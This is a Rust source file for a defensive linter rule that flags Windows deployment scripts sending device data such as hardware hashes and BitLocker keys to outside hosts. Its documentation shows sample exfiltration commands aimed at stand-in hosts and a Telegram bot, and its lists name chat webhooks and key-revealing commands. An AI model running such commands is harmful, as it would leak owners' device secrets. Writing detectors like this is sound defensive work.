//! `mal-exfiltration`

use crate::lint::{Confidence, Context, Findings, lint};
use crate::package::{Package, RunCall};
use crate::script::Value;
use crate::script::reading::Style;

lint! {
    /// Something about the device is sent away.
    ///
    /// ## Why it matters
    ///
    /// The hardware hash, BitLocker keys, names of users and of the network are what a package can
    /// read as SYSTEM. What is sent to a chat, a mailbox or a file share of somebody is out of the
    /// hands of whoever owns the device, and the address or key of the receiver lies in the package.
    ///
    /// ## Fires
    ///
    /// ```powershell
    /// $hash = (Get-CimInstance -Namespace root/cimv2/mdm/dmmap -ClassName MDM_DevDetail_Ext01).DeviceHardwareData
    /// Invoke-RestMethod -Uri https://intake.fabrikam.example/devices -Method Post -Body $hash
    /// ```
    ///
    /// ```powershell
    /// Invoke-RestMethod -Uri https://api.telegram.org/bot1/sendMessage -Method Post -Body $text
    /// ```
    ///
    /// ```batch
    /// curl.exe -T C:\Windows\Temp\keys.txt https://files.fabrikam.example/in/
    /// scp C:\Windows\Temp\inventory.csv deploy@files.fabrikam.example:/in/
    /// ```
    ///
    /// ## Stays quiet
    ///
    /// ```powershell
    /// # Send-MailMessage -To it@fabrikam.example
    /// Invoke-RestMethod -Uri https://api.fabrikam.example/token -Method Post -Body $request
    /// Invoke-WebRequest https://cdn.fabrikam.example/reader.msi -OutFile C:\Windows\Temp\reader.msi
    /// $serial = (Get-CimInstance Win32_BIOS).SerialNumber
    /// Invoke-RestMethod -Uri https://graph.microsoft.com/v1.0/devices -Method Post -Body $serial
    /// ```
    ///
    /// ```batch
    /// curl.exe -o reader.msi https://cdn.fabrikam.example/reader.msi
    /// ```
    ///
    /// ## What to do
    ///
    /// Send it to a service of your own tenant, such as Intune or Log Analytics, or leave it out.
    ///
    /// ## References
    ///
    /// * <https://attack.mitre.org/techniques/T1567/>
    pub(crate) EXFILTRATION {
        id: "mal-exfiltration", category: ScriptsMalicious,
        severity: Warning, confidence: Likely, attack: ["T1567", "T1041"], since: "0.1.0",
        check,
    }
}

/// Where an address with this in it leads to a chat.
const CHATS: &[&str] = &[
    "api.telegram.org/bot",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "hooks.slack.com/",
    ".webhook.office.com/",
];

/// Services of a tenant at Microsoft.
const TENANT: &[&str] = &[
    "graph.microsoft.com",
    "login.microsoftonline.com",
    ".opinsights.azure.com",
    ".ingest.monitor.azure.com",
    ".manage.microsoft.com",
];

/// What tells a device or its keys.
const TELLING: &[&str] = &[
    "get-bitlockervolume",
    "get-windowsautopilotinfo",
    "mdm_devdetail_ext01",
    "keyprotector",
    "get-localuser",
    "systeminfo",
    "recoverypassword",
];

/// How many calls before one that sends are asked what they read.
const MOST_BEFORE: usize = 200;

fn check(package: &Package, _: &Context, findings: &mut Findings<'_>) {
    for call in package.calls() {
        let Some(sent) = sent(&call) else { continue };
        let to = match &sent.host {
            Some(host) => format!(" to {host}"),
            None => String::new(),
        };
        let finding = findings
            .at(call)
            .say(format!("the device sends {}{to}", sent.what))
            .help("send it to a service of your own tenant, or leave it out");
        if !sent.is_certain {
            drop(finding.with_confidence(Confidence::Heuristic));
        }
    }
}

/// What is sent, and where to.
struct Sent {
    what: &'static str,
    host: Option<String>,
    is_certain: bool,
}

fn sent(call: &RunCall<'_>) -> Option<Sent> {
    let to = |address: Option<&Value>, what: &'static str| {
        let address = address.map(|address| address.text().to_ascii_lowercase());
        let host = address.as_deref().and_then(host);
        let is_tenant = host.as_ref().is_some_and(|host| {
            TENANT.iter().any(|own| host == own || own.starts_with('.') && host.ends_with(own))
        });
        (!is_tenant).then_some(Sent { what, host, is_certain: true })
    };
    let has = |word: &str| call.texts().any(|text| text == word);
    match (call.style, call.name.as_str()) {
        (Style::Cmdlet, "invoke-restmethod" | "invoke-webrequest") => {
            let method = call.parameter("method")?;
            let sends = ["post", "put", "patch"].iter().any(|verb| method.is(verb));
            if !sends {
                return None;
            }
            let address = call.parameter_or("uri", 0);
            let is_chat = address.is_some_and(|address| {
                let text = address.text().to_ascii_lowercase();
                CHATS.iter().any(|chat| text.contains(chat))
            });
            if is_chat {
                return to(address, "a message");
            }
            if call.parameter("infile").is_some() {
                return to(address, "a file");
            }
            call.parameter("body")?;
            let what = |found: RunCall<'_>| {
                let text = found.text().to_ascii_lowercase();
                TELLING.iter().any(|word| text.contains(word))
            };
            let is_told = call.before().take(MOST_BEFORE).any(what);
            let found = is_told.then(|| to(address, "what the package read about it"))??;
            Some(Sent { is_certain: false, ..found })
        }
        (Style::Cmdlet, "send-mailmessage") => to(None, "a mail"),
        (Style::Method, "uploadfile" | "uploadfileasync") => to(call.positional().next(), "a file"),
        (Style::Program, "curl") => {
            let uploads = has("-T") || has("--upload-file");
            let file = |text: &str| text.starts_with('@') || text.contains("=@");
            let given = ["-F", "--form", "-d", "--data", "--data-binary"].iter().any(|name| {
                let mut texts = call.texts().skip_while(|text| text != name).skip(1);
                texts.next().is_some_and(file)
            });
            let mut address = call.arguments.iter().map(|argument| &argument.value);
            let address = address.rfind(|value| value.text().contains("://"));
            (uploads || given).then(|| to(address, "a file"))?
        }
        (Style::Cmdlet, "start-bitstransfer")
            if call
                .parameter("transfertype")
                .is_some_and(|kind| kind.is("upload") || kind.is("uploadreply")) =>
        {
            to(call.parameter_or("destination", 1), "a file")
        }
        (Style::Program, "bitsadmin") if call.has_switch(&["upload"]) => {
            let mut address = call.arguments.iter().map(|argument| &argument.value);
            to(address.find(|value| value.text().contains("://")), "a file")
        }
        (Style::Program, "scp" | "pscp") => {
            // The last one is where it goes: `user@host:path`, and no `C:\`.
            let target = call.arguments.last()?.value.text();
            let (host, _) = target.split_once(':').filter(|(host, _)| host.len() > 1)?;
            let host = host.rsplit('@').next().unwrap_or(host).to_owned();
            Some(Sent { what: "a file", host: Some(host), is_certain: true })
        }
        _ => None,
    }
}

/// The host of an address.
fn host(address: &str) -> Option<String> {
    let (_, rest) = address.split_once("://")?;
    let authority = rest.split(['/', '?']).next()?;
    let host = authority.rsplit('@').next()?.split(':').next()?;
    Some(host.to_owned()).filter(|host| !host.is_empty())
}
